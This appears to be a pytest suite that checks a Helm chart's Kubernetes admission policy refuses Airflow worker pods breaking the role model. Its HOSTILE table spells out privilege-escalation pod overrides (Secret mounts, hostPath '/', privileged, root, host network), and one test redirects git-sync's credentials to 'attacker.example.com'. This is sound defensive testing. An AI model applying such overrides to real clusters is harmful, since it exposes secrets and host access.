"""The chart's ValidatingAdmissionPolicy holds the scheduler's pods to the role model, evaluated for real: the
local API server runs the policy's CEL on every pod the scheduler's account creates or updates. Every reference
task's pod as Airflow builds it is admitted; a DAG's pod_override that leaves its role (another account, a Secret,
the API token, a role label, root, privileges, memory) is refused naming the rule. The namespace carries no Pod
Security label here: the policy stands on its own."""

from __future__ import annotations

import json

import pytest
import yaml
from kubernetes.client import models as k8s

from eksflow_dev.cluster.client import ClientError
from tests.helm import rendered_templates
from tests.support.cluster import chart_render, client_as, control_plane, kubectl
from tests.support.worker_pods import REFERENCE_DAG_IDS, build_worker_pod, reference_worker_pods, serialized

NAMESPACE = "eksflow"
POLICY = "eksflow-eksflow-worker-pods"
DENIED = f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied request: "
PODS = f"/api/v1/namespaces/{NAMESPACE}/pods"
KINDS = {"ServiceAccount", "Role", "RoleBinding", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}


def _restricted(**changes) -> k8s.V1SecurityContext:
    """The container security context of the chart's template (a pod_override's replaces it whole), changed."""
    fields = {
        "allow_privilege_escalation": False,
        "privileged": False,
        "capabilities": k8s.V1Capabilities(drop=["ALL"]),
    }
    return k8s.V1SecurityContext(**{**fields, **changes})


RESTRICTED = _restricted()


@pytest.fixture(scope="module")
def docs():
    return chart_render(NAMESPACE)


@pytest.fixture(scope="module")
def cluster(tmp_path_factory, docs):
    with control_plane(tmp_path_factory.mktemp("worker-policy")) as running:
        kubectl(running, "create", "namespace", NAMESPACE)
        objects = [d for d in docs if d["kind"] in KINDS]
        assert {"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"} <= {d["kind"] for d in objects}
        kubectl(running, "apply", "-n", NAMESPACE, "-f", "-", stdin=yaml.safe_dump_all(objects))
        yield running


@pytest.fixture(scope="module")
def scheduler(cluster):
    return client_as(cluster, NAMESPACE, "eksflow-scheduler")


@pytest.fixture(scope="module")
def templates(docs):
    return rendered_templates(docs)


def test_every_reference_task_pod_airflow_builds_is_admitted_from_the_scheduler(scheduler, docs):
    pods = reference_worker_pods(docs)
    assert {dag_id for dag_id, *_ in pods} == REFERENCE_DAG_IDS  # a pod for every task of every reference DAG
    for dag_id, task_id, role, pod in pods:
        created = scheduler.create(PODS, serialized(pod))
        assert created["spec"]["serviceAccountName"] == role.service_account, (dag_id, task_id)
        # The IRSA webhook ran before the policy: the web-identity token is the one projected volume allowed.
        assert any(v["name"] == "aws-iam-token" for v in created["spec"]["volumes"]), (dag_id, task_id)


def _override(**spec) -> k8s.V1Pod:
    return k8s.V1Pod(spec=k8s.V1PodSpec(containers=spec.pop("containers", []), **spec))


def _base(**container) -> k8s.V1Pod:
    return _override(containers=[k8s.V1Container(name="base", **container)])


SECRET_ENV = k8s.V1EnvVarSource(
    secret_key_ref=k8s.V1SecretKeySelector(name="eksflow-airflow-secrets", key="fernet-key")
)
HOSTILE = {
    "the scheduler's account": ("worker-service-account", _override(service_account_name="eksflow-scheduler")),
    "another role's account": (
        "worker-role-label",
        _override(service_account_name="eksflow-task-sagemaker-runner"),
    ),
    "another role's label": (
        "worker-role-label",
        k8s.V1Pod(metadata=k8s.V1ObjectMeta(labels={"eksflow.io/role": "sagemaker-runner"})),
    ),
    "the DB Secret as a volume": (
        "worker-volumes",
        _override(
            volumes=[k8s.V1Volume(name="db", secret=k8s.V1SecretVolumeSource(secret_name="eksflow-metadata-db"))]
        ),
    ),
    "a projected Secret": (
        "worker-volumes",
        _override(
            volumes=[
                k8s.V1Volume(
                    name="keys",
                    projected=k8s.V1ProjectedVolumeSource(
                        sources=[k8s.V1VolumeProjection(secret=k8s.V1SecretProjection(name="eksflow-airflow-secrets"))]
                    ),
                )
            ]
        ),
    ),
    "a hostPath": (
        "worker-volumes",
        _override(volumes=[k8s.V1Volume(name="root", host_path=k8s.V1HostPathVolumeSource(path="/"))]),
    ),
    "env from the fernet Secret": ("worker-secret-env", _base(env=[k8s.V1EnvVar(name="F", value_from=SECRET_ENV)])),
    "envFrom the DB Secret": (
        "worker-secret-env",
        _base(env_from=[k8s.V1EnvFromSource(secret_ref=k8s.V1SecretEnvSource(name="eksflow-metadata-db"))]),
    ),
    "the API token mounted": ("worker-no-api-token", _override(automount_service_account_token=True)),
    "the host network": ("worker-host-namespaces", _override(host_network=True)),
    "a privileged container": ("worker-container-security", _base(security_context=_restricted(privileged=True))),
    "an added capability": (
        "worker-container-security",
        _base(security_context=_restricted(capabilities=k8s.V1Capabilities(drop=["ALL"], add=["NET_ADMIN"]))),
    ),
    "root in the container": ("worker-non-root", _base(security_context=_restricted(run_as_user=0))),
    "runAsNonRoot false for the pod": (
        "worker-non-root",
        _override(security_context=k8s.V1PodSecurityContext(run_as_non_root=False)),
    ),
    "the kubernetes_executor label dropped": (
        "worker-labels",
        k8s.V1Pod(metadata=k8s.V1ObjectMeta(labels={"kubernetes_executor": "False"})),
    ),
    "relabelled as the scheduler": (
        "worker-labels",
        k8s.V1Pod(metadata=k8s.V1ObjectMeta(labels={"app.kubernetes.io/component": "scheduler"})),
    ),
    "a sidecar without a memory limit": (
        "worker-memory-limit: every container sets resources.limits.memory",
        _override(
            containers=[
                k8s.V1Container(name="base"),
                k8s.V1Container(name="sidecar", image="busybox", security_context=RESTRICTED),
            ]
        ),
    ),
    "a native sidecar (restartPolicy on an init container)": (
        "worker-no-sidecars",
        _override(
            init_containers=[
                k8s.V1Container(
                    name="sidecar",
                    image="busybox",
                    restart_policy="Always",
                    security_context=RESTRICTED,
                    resources=k8s.V1ResourceRequirements(limits={"memory": "512Mi"}),
                )
            ]
        ),
    ),
    "memory above the role's limit": (
        "worker-memory-limit: the containers' memory limits add up to more than role default's limit 512Mi",
        _base(resources=k8s.V1ResourceRequirements(limits={"memory": "4Gi"})),
    ),
    "two containers at the role's limit": (
        "worker-memory-limit: the containers' memory limits add up to more than role default's limit 512Mi",
        _override(
            containers=[
                k8s.V1Container(name="base"),
                k8s.V1Container(
                    name="sidecar",
                    image="busybox",
                    security_context=RESTRICTED,
                    resources=k8s.V1ResourceRequirements(limits={"memory": "512Mi"}),
                ),
            ]
        ),
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_pod_override_that_leaves_the_role_model_is_refused_naming_its_rule(case, scheduler, templates):
    rule, override = HOSTILE[case]
    pod = build_worker_pod(
        "hostile", case.replace(" ", "_").replace("'", ""), templates["default.yaml"], NAMESPACE, override
    )
    with pytest.raises(ClientError) as refused:
        scheduler.create(PODS, serialized(pod))
    assert refused.value.code == 422, refused.value
    assert refused.value.body["reason"] == "Invalid"
    assert DENIED + rule in refused.value.body["message"], refused.value.body["message"]


def test_the_same_override_without_the_hostile_part_is_admitted(scheduler, templates):
    """A pod_override may still set what the role model leaves open (here: a smaller memory limit, an annotation)."""
    override = _base(resources=k8s.V1ResourceRequirements(limits={"memory": "256Mi"}))
    override.metadata = k8s.V1ObjectMeta(annotations={"team": "data-eng"})
    pod = build_worker_pod("benign", "smaller", templates["default.yaml"], NAMESPACE, override)
    assert scheduler.create(PODS, serialized(pod))["metadata"]["annotations"]["team"] == "data-eng"


UPDATES = f"ValidatingAdmissionPolicy '{POLICY}-updates' with binding '{POLICY}-updates' denied request: "


def test_other_identities_are_not_subject_to_the_policy_and_updates_keep_what_the_pod_was_admitted_with(
    cluster, scheduler, templates
):
    pod = build_worker_pod("admin", "made", templates["default.yaml"], NAMESPACE, HOSTILE["the scheduler's account"][1])
    body = serialized(pod)
    body["metadata"]["name"] = "made-by-an-admin"
    created = cluster.client().create(PODS, body)
    assert created["spec"]["serviceAccountName"] == "eksflow-scheduler"
    # The KubernetesExecutor patches labels of its pods (adoption after a restart, done): admitted even for a pod
    # admitted under an earlier policy (a restarted scheduler must adopt its running pods) ...
    patched = scheduler.patch(f"{PODS}/made-by-an-admin", {"metadata": {"labels": {"airflow-worker": "2"}}})
    assert patched["metadata"]["labels"]["airflow-worker"] == "2"
    # ... but an update may not change what the create rules keyed on.
    good = serialized(build_worker_pod("update", "ok", templates["default.yaml"], NAMESPACE))
    name = scheduler.create(PODS, good)["metadata"]["name"]
    for change, rule in (
        ({"metadata": {"labels": {"eksflow.io/role": "sagemaker-runner"}}}, "worker-update-labels"),
        ({"metadata": {"labels": {"kubernetes_executor": None}}}, "worker-update-labels"),
        ({"spec": {"containers": [{"name": "base", "image": "busybox"}]}}, "worker-update-images"),
    ):
        with pytest.raises(ClientError) as refused:
            scheduler.patch(f"{PODS}/{name}", change)
        assert UPDATES + rule in refused.value.body["message"], refused.value.body["message"]


def test_a_pod_override_cannot_point_git_sync_with_its_credentials_at_another_host(tmp_path):
    """Airflow merges an override's init container of the same name and appends its env: a second GITSYNC_REPO
    would win (Kubernetes takes the last) and git-sync would send the token there."""
    docs = chart_render(NAMESPACE, "gitSync.auth.type=https", "gitSync.auth.existingSecret=git-creds")
    template = rendered_templates(docs)["default.yaml"]
    evil = k8s.V1EnvVar(name="GITSYNC_REPO", value="https://attacker.example.com/dags.git")
    override = _override(init_containers=[k8s.V1Container(name="git-sync-init", env=[evil])])
    with control_plane(tmp_path / "cluster") as running:
        kubectl(running, "create", "namespace", NAMESPACE)
        objects = [d for d in docs if d["kind"] in KINDS]
        kubectl(running, "apply", "-n", NAMESPACE, "-f", "-", stdin=yaml.safe_dump_all(objects))
        scheduler = client_as(running, NAMESPACE, "eksflow-scheduler")
        assert scheduler.create(PODS, serialized(build_worker_pod("git", "plain", template, NAMESPACE)))
        hostile = serialized(build_worker_pod("git", "evil", template, NAMESPACE, override))
        repos = [e["value"] for c in hostile["spec"]["initContainers"] for e in c["env"] if e["name"] == "GITSYNC_REPO"]
        assert len(repos) == 2  # what Airflow's merge makes of it
        with pytest.raises(ClientError) as refused:
            scheduler.create(PODS, hostile)
    assert DENIED + "worker-git-sync" in refused.value.body["message"], refused.value.body["message"]


def test_a_policy_whose_cel_does_not_compile_is_refused_when_written(cluster, docs):
    (policy,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == POLICY]
    policy["metadata"]["name"] = "broken"
    policy["spec"]["validations"] = [{"expression": "object.spec.containers.all(c, ", "message": "broken"}]
    result = kubectl(cluster, "create", "-f", "-", stdin=json.dumps(policy), check=False)
    assert result.returncode != 0
    assert "spec.validations[0].expression" in result.stderr and "compilation failed" in result.stderr
